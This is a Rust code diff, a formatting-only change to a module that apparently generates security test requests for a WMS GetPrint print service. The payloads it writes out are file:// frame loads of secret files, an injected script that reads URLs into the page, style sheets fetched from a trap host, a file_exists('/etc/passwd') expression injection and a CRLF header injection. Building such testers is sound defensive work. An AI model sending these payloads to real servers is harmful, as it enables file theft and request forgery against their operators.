@@ -12,7 +12,8 @@ const FAMILY: &str = "prints";
 /// Prints that show files and what expressions tell.
 pub(super) fn attacks(words: &Words) -> Vec<Attack> {
     let frame = format!("file://{}", words.secret);
-    let honest = "SERVICE=WMS&VERSION=1.3.0&TEMPLATE=A4&FORMAT=pdf&CRS=EPSG:3857&MAP0:EXTENT=0,0,1000,1000&DPI=60";
+    let honest =
+        "SERVICE=WMS&VERSION=1.3.0&TEMPLATE=A4&FORMAT=pdf&CRS=EPSG:3857&MAP0:EXTENT=0,0,1000,1000&DPI=60";
     let sharp = vec![("REQUEST".to_owned(), "GetPrint".to_owned()), ("WEBFRAME".into(), frame)];
     let main = Ask::new(FAMILY, "a file in a frame", honest, sharp);
     let mut attacks = spelled(&[main], &words.alpha, Much::All);
@@ -23,7 +24,9 @@ pub(super) fn attacks(words: &Words) -> Vec<Attack> {
 }
 
 fn print(format: &str) -> String {
-    format!("SERVICE=WMS&VERSION=1.3.0&REQUEST=GetPrint&TEMPLATE=A4&CRS=EPSG:3857&MAP0:EXTENT=0,0,1000,1000&DPI=60&FORMAT={format}")
+    format!(
+        "SERVICE=WMS&VERSION=1.3.0&REQUEST=GetPrint&TEMPLATE=A4&CRS=EPSG:3857&MAP0:EXTENT=0,0,1000,1000&DPI=60&FORMAT={format}"
+    )
 }
 
 fn one(name: &str, value: impl Into<String>) -> Parameters {
@@ -33,7 +36,11 @@ fn one(name: &str, value: impl Into<String>) -> Parameters {
 /// The frame and the labels, filled with what loads.
 fn filled(words: &Words) -> Vec<Ask> {
     let Words { secret, page, svg, png, trap, .. } = words;
-    let read = |url: &str| format!("<body>a<script>var x=new XMLHttpRequest();x.open('GET','{url}',false);x.send();document.body.innerHTML=x.responseText</script></body>");
+    let read = |url: &str| {
+        format!(
+            "<body>a<script>var x=new XMLHttpRequest();x.open('GET','{url}',false);x.send();document.body.innerHTML=x.responseText</script></body>"
+        )
+    };
     let values = [
         ("WEBFRAME", format!("file://{page}")),
         ("WEBFRAME", format!("file://{svg}")),
@@ -88,8 +95,18 @@ fn maps(words: &Words) -> Vec<Ask> {
         Ask::new(FAMILY, "a layer from elsewhere", &print("png"), external),
         Ask::new(FAMILY, "a restricted layer", &print("png"), one("MAP0:LAYERS", "hidden")),
         Ask::new(FAMILY, "out of a layer's filter", &print("png"), filter),
-        Ask::new(FAMILY, "a style from elsewhere", &print("png"), one("SLD", format!("{}/print", words.trap))),
-        Ask::new(FAMILY, "a map's style from elsewhere", &print("png"), one("MAP0:SLD", format!("{}/print", words.trap))),
+        Ask::new(
+            FAMILY,
+            "a style from elsewhere",
+            &print("png"),
+            one("SLD", format!("{}/print", words.trap)),
+        ),
+        Ask::new(
+            FAMILY,
+            "a map's style from elsewhere",
+            &print("png"),
+            one("MAP0:SLD", format!("{}/print", words.trap)),
+        ),
         Ask::new(FAMILY, "a style with a picture", &print("png"), one("SLD_BODY", style)),
         Ask::new(FAMILY, "an atlas", &print("pdf"), one("ATLAS_PK", "1) or (file_exists('/etc/passwd')")),
         Ask::new(FAMILY, "a header of one's own", &print("pdf"), one("FILE_NAME", "a\"\r\nX-Pwned: \"b")),
